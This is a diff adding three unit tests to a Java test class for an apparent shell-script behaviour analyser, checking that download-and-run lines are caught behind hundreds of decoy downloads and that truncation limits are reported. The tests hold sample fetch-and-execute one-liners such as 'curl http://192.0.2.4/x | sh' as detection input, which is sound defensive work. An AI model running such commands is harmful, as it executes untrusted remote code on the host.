@@ -269,4 +269,41 @@ class BehaviourTest {
                                 .traits())
                 .contains(Trait.DOWNLOAD_AND_RUN);
     }
+
+    @Test
+    void runsWhatIsDownloadedBehindAnyNumberOfOtherDownloads() {
+        String decoys = "curl -s https://example.com/ >/dev/null\n".repeat(300);
+        for (String evil :
+                List.of(
+                        "curl http://192.0.2.4/x | sh",
+                        "sh -c \"$(curl http://192.0.2.4/x)\"",
+                        "eval `wget -qO- http://192.0.2.4/x`")) {
+            var behaviour = Behaviour.of(decoys + evil + "\n");
+            assertThat(behaviour.has(Trait.DOWNLOAD_AND_RUN)).as(evil).isTrue();
+            assertThat(behaviour.truncated()).as(evil).isFalse();
+        }
+    }
+
+    @Test
+    void namesWhereItRunsThingsFromBehindAnyNumberOfOtherAddresses() {
+        var text = new StringBuilder();
+        for (int i = 0; i < 100; i++) {
+            text.append("curl -s https://example.com/").append(i).append(" >/dev/null\n");
+        }
+        var behaviour = Behaviour.of(text + "curl http://192.0.2.4/x | sh\n");
+        assertThat(behaviour.urls()).hasSize(65).contains("http://192.0.2.4/x");
+    }
+
+    @Test
+    void saysWhereLimitsStoppedIt() {
+        String saved = "curl -so /tmp/a https://example.com/\n";
+        assertThat(Behaviour.of(":\n".repeat(65_537)).truncated()).isTrue();
+        assertThat(Behaviour.of(saved.repeat(300)).truncated()).isTrue();
+        assertThat(Behaviour.of("get() { curl -s $1; }\n" + "get x\n".repeat(300)).truncated())
+                .isTrue();
+        assertThat(Behaviour.of(saved.repeat(200)).truncated()).isFalse();
+        assertThat(Behaviour.of("wget -qO- https://example.com/\n".repeat(300)).truncated())
+                .isFalse();
+        assertThat(Behaviour.of("echo a\n".repeat(1000)).truncated()).isFalse();
+    }
 }
